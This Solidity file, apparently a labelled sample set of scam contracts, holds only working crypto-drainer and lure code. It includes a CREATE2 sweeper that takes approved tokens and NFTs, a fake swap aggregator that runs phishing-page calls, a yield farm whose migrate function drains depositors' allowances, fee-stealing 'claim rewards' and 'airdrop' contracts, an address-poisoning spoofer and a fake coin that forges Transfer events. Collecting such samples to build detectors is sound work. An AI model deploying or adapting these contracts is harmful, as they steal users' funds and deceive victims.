// SPDX-License-Identifier: MIT
// Family C drainers and lures: a CREATE2 sweeper (approved before it has code), a
// "multicall" aggregator that runs the calls a phishing page hands it, a yield farm whose
// owner later pulls every standing allowance, two payable claim pages, a zero-value
// transferFrom spoofer and a fake coin that only emits Transfer events.
pragma solidity 0.8.19;

import {IToken} from "../benign/Money.sol";

interface INft {
    function transferFrom(address, address, uint256) external;
}

contract Sweeper {
    address private immutable boss;

    constructor(address boss_) {
        boss = boss_;
    }

    function sweep(address token, address[] calldata owners) external {
        require(msg.sender == boss);
        for (uint256 i = 0; i < owners.length; i++) {
            uint256 bal = IToken(token).balanceOf(owners[i]);
            uint256 allowed = IToken(token).allowance(owners[i], address(this));
            uint256 take = bal < allowed ? bal : allowed;
            if (take > 0) IToken(token).transferFrom(owners[i], boss, take);
        }
    }

    function sweepNfts(address collection, address owner, uint256[] calldata ids) external {
        require(msg.sender == boss);
        for (uint256 i = 0; i < ids.length; i++) INft(collection).transferFrom(owner, boss, ids[i]);
    }
}

contract SweeperFactory {
    function deploy(bytes32 salt) external returns (address) {
        return address(new Sweeper{salt: salt}(msg.sender));
    }

    function predict(address boss, bytes32 salt) external view returns (address) {
        bytes32 h = keccak256(
            abi.encodePacked(
                bytes1(0xff), address(this), salt, keccak256(abi.encodePacked(type(Sweeper).creationCode, abi.encode(boss)))
            )
        );
        return address(uint160(uint256(h)));
    }
}

/// Looks like a swap aggregator; `multicall` runs whatever calls the page built, from itself,
/// so a standing approval to it lets the page move the caller's tokens to the collector.
contract Aggregator {
    address public immutable collector;

    constructor(address collector_) {
        collector = collector_;
    }

    function multicall(address[] calldata targets, bytes[] calldata data) external payable returns (bytes[] memory out) {
        out = new bytes[](targets.length);
        for (uint256 i = 0; i < targets.length; i++) {
            (bool ok, bytes memory ret) = targets[i].call(data[i]);
            require(ok, "step");
            out[i] = ret;
        }
        if (address(this).balance > 0) {
            (bool sent,) = payable(collector).call{value: address(this).balance}("");
            require(sent);
        }
    }
}

/// A farm that works for a while (deposit, withdraw); then `migrate` pulls what every depositor
/// still allows it to the owner.
contract YieldFarm {
    address public owner;
    mapping(address => mapping(address => uint256)) public deposited;

    event Deposit(address indexed who, address indexed token, uint256 amount);
    event Withdraw(address indexed who, address indexed token, uint256 amount);

    constructor() {
        owner = msg.sender;
    }

    function deposit(address token, uint256 amount) external {
        IToken(token).transferFrom(msg.sender, address(this), amount);
        deposited[msg.sender][token] += amount;
        emit Deposit(msg.sender, token, amount);
    }

    function withdraw(address token, uint256 amount) external {
        deposited[msg.sender][token] -= amount;
        IToken(token).transfer(msg.sender, amount);
        emit Withdraw(msg.sender, token, amount);
    }

    function migrate(address token, address[] calldata users) external {
        require(msg.sender == owner);
        for (uint256 i = 0; i < users.length; i++) {
            uint256 bal = IToken(token).balanceOf(users[i]);
            uint256 allowed = IToken(token).allowance(users[i], address(this));
            uint256 take = bal < allowed ? bal : allowed;
            if (take > 0) IToken(token).transferFrom(users[i], owner, take);
        }
        IToken(token).transfer(owner, IToken(token).balanceOf(address(this)));
    }
}

/// "Claim your rewards": the fee is forwarded to the operator at once; nothing is claimed.
contract RewardsClaim {
    address payable private immutable op;

    event RewardsClaimed(address indexed who, uint256 fee);

    constructor(address payable op_) {
        op = op_;
    }

    function claimRewards() external payable {
        op.transfer(msg.value);
        emit RewardsClaimed(msg.sender, msg.value);
    }
}

/// "Airdrop center": keeps the 'gas deposit' and hands out worthless vouchers; the operator
/// sweeps the ether later.
contract AirdropCenter {
    address private immutable op;
    mapping(address => uint256) public vouchers;

    event Airdrop(address indexed who, uint256 round, uint256 amount);

    constructor() {
        op = msg.sender;
    }

    function claim(uint256 round) external payable {
        require(msg.value > 0, "gas deposit");
        vouchers[msg.sender] += 1000e18;
        emit Airdrop(msg.sender, round, 1000e18);
    }

    function collect() external {
        require(msg.sender == op);
        payable(op).transfer(address(this).balance);
    }
}

/// Zero-value transferFrom from victims to look-alikes: tokens that allow a 0 transferFrom
/// without allowance show the victim "sending" to the look-alike.
contract Spoofer {
    function spoof(address token, address[] calldata from, address[] calldata to) external {
        for (uint256 i = 0; i < from.length; i++) IToken(token).transferFrom(from[i], to[i], 0);
    }
}

/// A coin named like the real one that only emits Transfer events (no balances move).
contract FakeCoin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function emitTransfers(address[] calldata from, address[] calldata to, uint256[] calldata value) external {
        for (uint256 i = 0; i < from.length; i++) emit Transfer(from[i], to[i], value[i]);
    }
}
